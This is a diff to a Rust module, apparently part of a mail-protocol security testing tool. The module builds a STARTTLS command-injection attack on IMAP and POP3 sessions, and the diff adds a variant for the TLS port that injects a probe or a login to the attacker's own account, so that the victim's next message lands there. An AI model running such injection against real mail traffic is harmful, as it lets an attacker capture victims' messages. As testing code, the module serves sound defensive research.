@@ -1,6 +1,7 @@
 //! Sends commands behind the client's STARTTLS.
 
 use super::kit::{asks_for_tls, login, next_tag};
+use super::led::{HANDSHAKE, led};
 use super::{Attack, Deciding, Group, group, tamper};
 use crate::base::ATTACKER;
 use crate::base::{Protocol, Switch, switch};
@@ -16,14 +17,22 @@ switch!(
     "One that only shows that it was carried out, a login to the attacker's own account, or that and the beginning of a message (IMAP): what the victim sends next is stored there."
 );
 
-static SWITCHES: &[&Switch] = &[&INJECTED];
+static SWITCHES: &[&Switch] = &[&INJECTED, &HANDSHAKE];
 
-static DECIDING: &[Deciding] = &[Deciding {
-    protocols: &[Protocol::Imap, Protocol::Pop3, Protocol::Acap],
-    given: &[],
-    right: &[],
-    wrong: &["server.keeps-buffer=on"],
-}];
+static DECIDING: &[Deciding] = &[
+    Deciding {
+        protocols: &[Protocol::Imap, Protocol::Pop3, Protocol::Acap],
+        given: &[],
+        right: &[],
+        wrong: &["server.keeps-buffer=on"],
+    },
+    Deciding {
+        protocols: &[Protocol::Imap, Protocol::Pop3],
+        given: &["client.port=tls-first", "middle.handshake-of=the-tls-port"],
+        right: &[],
+        wrong: &["server.keeps-buffer=on"],
+    },
+];
 
 /// The attack.
 pub static ATTACK: Attack = Attack {
@@ -42,6 +51,12 @@ pub static ATTACK: Attack = Attack {
     switches: SWITCHES,
     build: |switches, dialect| {
         let injected = switches.get(&INJECTED);
+        if switches.get(&HANDSHAKE) == "the-tls-port" && dialect.protocol != Protocol::Acap {
+            let (user, password) = ATTACKER;
+            let probe: &[u8] = if dialect.protocol == Protocol::Pop3 { b"CAPA\r\n" } else { b"q9 NOOP\r\n" };
+            let login = login(dialect.protocol, "q9", user, password).concat();
+            return led(dialect.protocol, Vec::new(), if injected == "probe" { probe } else { &login });
+        }
         tamper(move |message, moves| {
             moves.pass();
             let Some(tag) = asks_for_tls(dialect, &message) else { return };
